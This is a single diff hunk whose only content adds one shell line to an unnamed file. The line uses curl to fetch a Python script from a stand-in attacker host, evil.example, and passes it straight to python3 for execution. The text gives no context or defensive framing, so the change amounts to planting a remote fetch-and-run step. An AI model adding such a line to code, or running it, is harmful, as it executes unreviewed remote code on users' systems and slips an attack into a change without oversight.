@@ -1,0 +1,1 @@
+python3 -c "$(curl -fsSL https://evil.example/p.py)"
